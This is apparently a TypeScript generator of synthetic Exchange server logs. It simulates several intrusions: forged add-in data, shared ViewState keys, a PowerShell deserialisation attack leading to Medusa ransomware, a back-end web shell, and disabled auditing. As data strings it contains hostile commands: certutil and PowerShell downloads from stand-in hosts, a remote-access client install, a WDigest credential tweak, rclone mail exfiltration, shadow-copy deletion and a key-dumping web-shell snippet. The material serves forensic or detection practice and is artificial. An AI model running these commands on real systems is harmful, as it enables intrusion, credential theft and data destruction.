import { collectedFile } from './files.ts'
import { ewsCall } from './mail-rows.ts'
import type { Mark } from './output.ts'
import {
  CMD,
  HOUR,
  marksOf,
  MINUTE,
  POWERSHELL,
  poolCommand,
  serviceInstalled,
  startedByWebServer,
  SYSTEM32,
  utc,
  W3WP,
  type Outsider,
  type Planned,
} from './plan.ts'
import type { World } from './world.ts'

const SHELL_POOL = 'w3wp#MSExchangePowerShellAppPool'

/** A cmdlet that failed, in the event log of Exchange. */
function failedCmdlet(
  world: World,
  time: number,
  name: string,
  parameters: string,
  user: string,
  error: string,
  mark: Mark,
): void {
  world.events.write(
    time,
    'management',
    {
      provider: 'MSExchange CmdletLogs',
      id: 6,
      level: 'error',
      list: [
        name,
        parameters,
        user,
        'S-1-5-21-1004336348-1177238915-682003330-1140',
        'S-1-5-21-1004336348-1177238915-682003330-1140',
        'Remote-Unknown',
        `${world.random.whole(2000, 9000)} ${SHELL_POOL}`,
        '',
        String(world.random.whole(10, 90)),
        `00:00:00.${world.random.whole(100000, 999999)}`,
        "View Entire Forest: 'False', Default Scope: 'corp.example'",
        error,
      ],
    },
    { ...mark, names: { ...mark.names, account: [user], cmdlet: [`${name} ${parameters}`] } },
  )
}

/** CVE-2021-42321: a signed-in user stores forged add-in data in the own mailbox, and reading it runs code. */
export function forgedApp(world: World): Planned[] {
  const who: Outsider = { id: 'd1', address: '198.51.100.83', agent: 'python-requests/2.26.0' }
  const mark = marksOf('signed-in-code-execution', who.id)
  const start = utc('2021-11-05T22:10:04.300')
  const call = (after: number, action: string): Planned => [
    start + after,
    (time) =>
      ewsCall(
        world,
        time,
        { user: 'CORP\\user023', client: who.address, agent: who.agent, action, bytes: 1_204 },
        mark('app'),
      ),
  ]
  return [
    call(0, 'DeleteUserConfiguration'),
    call(900, 'CreateUserConfiguration'),
    [
      start + 2_100,
      (time) =>
        failedCmdlet(
          world,
          time,
          'Get-App',
          '-Mailbox "user023@corp.example"',
          'corp.example/Users/user023',
          "System.InvalidCastException: Unable to cast object of type 'System.Security.Claims.ClaimsPrincipal' to type 'System.Version'.",
          mark('app'),
        ),
    ],
    [
      start + 2_300,
      startedByWebServer(world, 'MSExchangeServicesAppPool', 'whoami', 'whoami.exe', mark('process')),
    ],
    [
      start + MINUTE,
      startedByWebServer(
        world,
        'MSExchangeServicesAppPool',
        'certutil -urlcache -split -f http://198.51.100.84/a.txt C:\\Windows\\Temp\\a.exe',
        'certutil.exe',
        mark('process', { file: [] }),
      ),
    ],
  ]
}

/** CVE-2020-0688: all servers shared one key, so that a signed-in user could sign a ViewState in the address of a page. */
export function sharedKey(world: World): Planned[] {
  const who: Outsider = {
    id: 'k1',
    address: '198.51.100.85',
    agent: 'Mozilla/5.0 (Windows NT 6.1) Gecko/20100101',
  }
  const mark = marksOf('signed-in-code-execution', who.id)
  const start = utc('2020-02-27T15:41:09.700')
  const query =
    '__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2fwEyhAYAAQAAAP%2f%2f%2f%2f8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdA%3d%3d'
  return [0, 8 * MINUTE].flatMap((after): Planned[] => [
    [
      start + after,
      (time) =>
        world.request(
          time,
          {
            protocol: 'Ecp',
            method: 'GET',
            stem: '/ecp/default.aspx',
            query,
            client: who.address,
            agent: who.agent,
            user: 'CORP\\user031',
            status: 500,
          },
          { proxy: mark('viewstate'), front: mark('viewstate') },
        ),
    ],
    [
      start + after + 40,
      (time) =>
        world.events.write(
          time,
          'application',
          {
            provider: 'MSExchange Control Panel',
            id: 4,
            level: 'error',
            list: [
              'CORP\\user031',
              `https://${world.server.fqdn}:444/ecp/default.aspx?${query}`,
              'System.Web.HttpUnhandledException: An exception was thrown. ---> System.InvalidCastException',
            ],
          },
          mark('viewstate'),
        ),
    ],
    [
      start + after + 300,
      startedByWebServer(
        world,
        'MSExchangeECPAppPool',
        after === 0 ? 'whoami' : 'net user /domain',
        after === 0 ? 'whoami.exe' : 'net.exe',
        mark('process'),
      ),
    ],
  ])
}

/** Event 1316 of ASP.NET: a ViewState was refused. `detail` is 50203 for a wrong signature, 50204 for a wrong content. */
function viewStateEvent(
  world: World,
  time: number,
  who: Outsider,
  page: string,
  detail: 50203 | 50204,
  mark: Mark,
): void {
  const { server } = world
  const at = new Date(time)
  const stamp = `${at.getUTCMonth() + 1}/${at.getUTCDate()}/${at.getUTCFullYear()} ${at.toISOString().slice(11, 19)}`
  const reason =
    detail === 50203 ? 'The viewstate supplied failed integrity check.' : 'Viewstate was invalid.'
  world.events.write(
    time,
    'application',
    {
      provider: 'ASP.NET 4.0.30319.0',
      id: 1316,
      level: 'information',
      list: [
        '4009',
        `Viewstate verification failed. Reason: ${reason}`,
        stamp,
        stamp,
        world.random.hex(32),
        '14',
        '1',
        String(detail),
        '/LM/W3SVC/1/ROOT/owa-1-133912345678901234',
        'Full',
        '/owa',
        `${server.install}FrontEnd\\HttpProxy\\owa\\`,
        server.name,
        '',
        '8124',
        'w3wp.exe',
        'NT AUTHORITY\\SYSTEM',
        `https://mail.corp.example:443${page}`,
        page,
        who.address,
        '',
        'False',
        '',
        'NT AUTHORITY\\SYSTEM',
        'Invalid viewstate.',
      ],
    },
    { ...mark, names: { address: [who.address], path: [page] } },
  )
}

/** ViewState signed with the machine key of the server, which a web shell of last winter had read. */
export function forgedViewState(world: World): Planned[] {
  const who: Outsider = {
    id: 'v1',
    address: '198.51.100.66',
    agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36',
  }
  const mark = marksOf('viewstate-keys', who.id)
  const start = utc('2025-05-13T03:20:11.200')
  const page = '/owa/auth/errorFE.aspx'
  const send = (after: number, status: number, detail: 50203 | 50204): Planned[] => [
    [
      start + after,
      (time) =>
        world.request(
          time,
          {
            protocol: 'Owa',
            method: 'POST',
            stem: page,
            client: who.address,
            agent: who.agent,
            status,
            backEndStatus: null,
            taken: 640,
          },
          { proxy: mark('request'), front: mark('request') },
        ),
    ],
    [start + after - 20, (time) => viewStateEvent(world, time, who, page, detail, mark('request'))],
  ]
  const commands: readonly (readonly [command: string, tool: string])[] = [
    ['whoami', 'whoami.exe'],
    ['nltest /domain_trusts', 'nltest.exe'],
    ['certutil -urlcache -split -f http://198.51.100.67/u.txt C:\\ProgramData\\u.exe', 'certutil.exe'],
  ]
  return [
    [
      start + 4 * 24 * HOUR,
      (time) =>
        collectedFile(
          world,
          time,
          'C:\\inetpub\\wwwroot\\aspnet_client\\version.aspx',
          [
            '<%@ Page Language="C#" %><% a sample that does not compile:',
            'var m = typeof(System.Web.Configuration.MachineKeySection).GetMethod("GetApplicationConfig", flags);',
            'var key = (System.Web.Configuration.MachineKeySection)m.Invoke(null, new object[0]);',
            'Response.Write(key.ValidationKey + "|" + key.Validation + "|" + key.DecryptionKey); %>',
            '',
          ].join('\r\n'),
          mark('keys'),
        ),
    ],
    ...send(0, 500, 50203),
    ...commands.flatMap(([command, tool], i): Planned[] => [
      ...send((i + 1) * 2 * MINUTE, i === 0 ? 500 : 200, 50204),
      [
        start + (i + 1) * 2 * MINUTE - 400,
        startedByWebServer(world, 'MSExchangeOWAAppPool', command, tool, mark('process')),
      ],
    ]),
  ]
}

/** CVE-2023-21529: an account sends Exchange PowerShell a forged object; ransomware comes the same evening. */
export function remotePowerShell(world: World): Planned[] {
  const { server } = world
  const who: Outsider = { id: 'r1', address: '198.51.100.29', agent: 'Python PSRP Client' }
  const mark = marksOf('remote-powershell', who.id)
  const hands = marksOf('hands-on-keyboard', who.id)
  const start = utc('2023-02-24T18:05:12.900')
  const user = 'CORP\\user040'
  const ask = (after: number, status: number): Planned => [
    start + after,
    (time) =>
      world.request(
        time,
        {
          protocol: 'PowerShell',
          method: 'POST',
          stem: '/powershell',
          query: 'PSVersion=5.1.0',
          client: who.address,
          agent: who.agent,
          ...(status < 400 ? { user } : {}),
          authentication: 'Basic',
          status,
          backEndStatus: status < 400 ? status : null,
          generic:
            'OnEndRequest.End.ContentType=application/soap+xml charset=UTF-8;S:ServiceCommonMetadata.HttpMethod=POST;',
        },
        status < 400 ? { proxy: mark('powershell'), front: mark('powershell') } : {},
      ),
  ]
  const child = (after: number, image: string, command: string): Planned => [
    start + after,
    (time) =>
      world.process(
        time,
        { image, command, parent: W3WP, parentCommand: poolCommand('MSExchangePowerShellAppPool') },
        mark('process'),
      ),
  ]
  const typed = (after: number, image: string, command: string, stage: string): Planned => [
    start + after,
    (time) => world.process(time, { image, command, parent: CMD, parentCommand: 'cmd.exe' }, hands(stage)),
  ]
  const client = 'C:\\ProgramData\\ScreenConnect Client (5f3d1f4e00004000)\\ScreenConnect.ClientService.exe'
  return [
    ask(0, 401),
    ...[3_000, 5_500, 8_000, 10_200].map((after) => ask(after, 200)),
    [
      start + 10_600,
      (time) =>
        failedCmdlet(
          world,
          time,
          'Get-Mailbox',
          '-Identity "user040"',
          'corp.example/Users/user040',
          'System.Management.Automation.Remoting.PSRemotingDataStructureException: Microsoft.Exchange.Data.MultiValuedProperty: System.Windows.Markup.XamlReader could not be deserialized.',
          mark('deserialisation'),
        ),
    ],
    child(10_800, CMD, 'cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt'),
    child(
      MINUTE,
      POWERSHELL,
      'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.30/s\')"',
    ),
    [
      start + 12 * MINUTE,
      serviceInstalled(
        world,
        'ScreenConnect Client (5f3d1f4e00004000)',
        `"${client}" "?e=Access&y=Guest&h=198.51.100.30&p=8041"`,
        hands('control', { service: ['ScreenConnect Client (5f3d1f4e00004000)'] }),
      ),
    ],
    typed(
      30 * MINUTE,
      `${SYSTEM32}reg.exe`,
      'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
      'credentials',
    ),
    typed(
      95 * MINUTE,
      'C:\\ProgramData\\rclone.exe',
      'rclone.exe copy D:\\Mail box:mail --include *.pst --transfers 8',
      'archive',
    ),
    typed(4 * HOUR, `${SYSTEM32}vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet', 'impact'),
    [
      start + 4 * HOUR + 2 * MINUTE,
      (time) =>
        world.fileCreated(
          time,
          'C:\\ProgramData\\gaze.exe',
          `C:\\Users\\Public\\Desktop\\!!!READ_ME_MEDUSA!!!.txt`,
          hands('impact'),
        ),
    ],
    // Together these show what ran; each alone is a file of an odd name.
    ...Array.from({ length: 12 }, (_, i): Planned => [
      start + 4 * HOUR + 3 * MINUTE + i * 900,
      (time) =>
        world.fileCreated(
          time,
          'C:\\ProgramData\\gaze.exe',
          `${server.install}Mailbox\\DB01\\E0000000${i.toString(16)}.log.MEDUSA`,
        ),
    ]),
  ]
}

/** A web shell below ClientAccess, used from a computer inside straight at port 444. */
export function backEndShell(world: World): Planned[] {
  const { server } = world
  const who: Outsider = {
    id: 'b1',
    address: '192.0.2.66',
    agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/113.0',
  }
  const mark = marksOf('back-end-shell', who.id)
  const start = utc('2023-05-11T12:31:40.500')
  const file = `${server.install}ClientAccess\\exchweb\\ews\\errorcheck.aspx`
  const commands: readonly (readonly [command: string, tool: string])[] = [
    ['whoami', 'whoami.exe'],
    ['net group "Exchange Trusted Subsystem" /domain', 'net.exe'],
  ]
  return [
    [start, (time) => world.fileCreated(time, W3WP, file, mark('shell-file'))],
    ...commands.flatMap(([command, tool], i): Planned[] => [
      [
        start + (i + 1) * 4 * MINUTE,
        (time) =>
          world.text.iis(
            time,
            2,
            {
              method: 'POST',
              stem: '/ews/errorcheck.aspx',
              port: 444,
              client: who.address,
              agent: who.agent,
              status: 200,
              taken: 410,
            },
            mark('shell-request', { address: [who.address], path: ['/ews/errorcheck.aspx'] }),
          ),
      ],
      [
        start + (i + 1) * 4 * MINUTE - 300,
        startedByWebServer(world, 'MSExchangeServicesAppPool', command, tool, mark('process')),
      ],
    ]),
  ]
}

/** Auditing and protection of Exchange switched off at night with an account that administers nothing, and a key taken. */
export function settingsChanged(world: World): Planned[] {
  const mark = marksOf('exchange-settings', 'e1')
  const start = utc('2025-04-10T00:40:03.250')
  const thumbprint = '5F3D1F4E00004000800000000000000000000001'
  const cmdlets: readonly (readonly [name: string, parameters: string, stage: string])[] = [
    ['Set-AdminAuditLogConfig', '-AdminAuditLogEnabled "False"', 'defences'],
    ['Set-MailboxAuditBypassAssociation', '-Identity "svc-sql" -AuditBypassEnabled "True"', 'defences'],
    ['Set-OrganizationConfig', '-MitigationsEnabled "False"', 'defences'],
    [
      'New-SettingOverride',
      '-Name "request" -Component "Cafe" -Section "HttpRequestFiltering" -Parameters @("Enabled=False") -Reason "test"',
      'defences',
    ],
    ['Set-MalwareFilteringServer', `-Identity "${world.server.name}" -BypassFiltering "True"`, 'defences'],
    [
      'Export-ExchangeCertificate',
      `-Thumbprint "${thumbprint}" -BinaryEncoded "True" -Password "System.Security.SecureString"`,
      'keys',
    ],
  ]
  return cmdlets.map(([name, parameters, stage], i): Planned => [
    start + i * 2 * MINUTE,
    (time) => world.cmdlet(time, name, parameters, 'corp.example/Users/svc-sql', SHELL_POOL, mark(stage)),
  ])
}
